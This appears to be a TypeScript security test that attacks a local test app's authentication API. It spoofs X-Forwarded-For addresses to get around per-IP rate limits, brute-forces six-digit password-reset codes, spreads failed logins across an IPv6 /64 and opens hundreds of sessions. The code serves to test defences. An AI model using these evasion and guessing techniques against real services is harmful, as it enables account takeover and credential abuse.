import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { tally, withVictim, type Victim } from './victim.ts';

/** Guessing at accounts: codes from many addresses, passwords from one network, and as many sessions as anybody likes. */
const OWNER = { email: 'owner@example.com', password: 'kites over the old city' };
const newPassword = 'brand new and long';

interface Answer {
  status: number;
  cookie: string;
}

async function post(victim: Victim, path: string, body: object, from: string, cookie = ''): Promise<Answer> {
  const response = await fetch(victim.url + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': from, cookie },
    body: JSON.stringify(body),
  });
  await response.arrayBuffer();
  const lines = response.headers.getSetCookie().filter((line) => !line.includes('Max-Age=0'));
  return { status: response.status, cookie: lines.map((line) => line.split(';')[0]).join('; ') };
}

/** The codes of the mails to the owner, once as many as expected have arrived, the oldest first. */
async function readResetCodes(victim: Victim, expected: number): Promise<string[]> {
  for (let tries = 0; tries < 100; tries += 1) {
    const files = existsSync(victim.mailDir) ? readdirSync(victim.mailDir).toSorted() : [];
    const texts = files.map((file) => readFileSync(join(victim.mailDir, file), 'utf8'));
    const codes = texts.filter((text) => text.includes('#token')).map((text) => /^(\d{6})$/m.exec(text)?.[1] ?? '');
    if (codes.length >= expected) return codes;
    await sleep(100);
  }
  throw new Error('the mails did not arrive');
}

await withVictim(async (victim) => {
  const registered = await post(
    victim,
    '/api/auth/register',
    { firstName: 'Riya', lastName: 'Shah', ...OWNER, acceptTerms: true },
    '203.0.113.200',
  );
  const { email } = OWNER;
  const ask = (from: string, cookie?: string) => post(victim, '/api/auth/forgot-password', { email }, from, cookie);
  const reset = (otp: string, from: string, cookie?: string) =>
    post(victim, '/api/auth/reset-password', { email, otp, newPassword }, from, cookie);

  const asked: Answer[] = [];
  const guessed: Answer[] = [];
  for (let network = 0; network < 24; network += 1) {
    const from = `198.51.100.${network}`;
    const attacker = await ask(from);
    asked.push(attacker);
    for (let guess = 0; guess < 5; guess += 1) guessed.push(await reset('000000', from, attacker.cookie));
  }
  console.log(`24 addresses ask for a code: ${tally(asked.map(({ status }) => status))}`);
  console.log(`  120 wrong codes: ${tally(guessed.map(({ status }) => status))}`);
  const codes = await readResetCodes(victim, 5);
  const right: number[] = [];
  for (const [index, attacker] of asked.slice(0, codes.length).entries())
    right.push((await reset(codes[index] ?? '', `198.51.101.${index}`, attacker.cookie)).status);
  console.log(`  then the right codes of the mails, in the browsers that asked: ${tally(right)}`);

  const own = await ask('203.0.113.200', registered.cookie);
  const ownCode = (await readResetCodes(victim, 6)).at(-1) ?? '';
  const cookie = `${registered.cookie}; ${own.cookie}`;
  console.log(`  meanwhile the owner on a known device: ${(await reset(ownCode, '203.0.113.200', cookie)).status}`);

  const failures: number[] = [];
  for (let host = 0; host < 60; host += 1) {
    const body = { email: `nobody-${host}@example.com`, password: 'wrong' };
    failures.push((await post(victim, '/api/auth/login', body, `2001:db8:1:1::${host.toString(16)}`)).status);
  }
  console.log(`60 failures from one IPv6 /64: ${tally(failures)}`);

  const signIns: Answer[] = [];
  for (let count = 0; count < 253; count += 1) {
    const from = `203.0.113.${count % 200}`;
    signIns.push(await post(victim, '/api/auth/login', { email, password: newPassword }, from));
  }
  let open = 0;
  for (const session of signIns) {
    const me = await fetch(`${victim.url}/api/auth/user`, { headers: { cookie: session.cookie } });
    if (me.ok) open += 1;
  }
  console.log(`253 sign-ins: ${tally(signIns.map(({ status }) => status))}; sessions open: ${open}`);
});
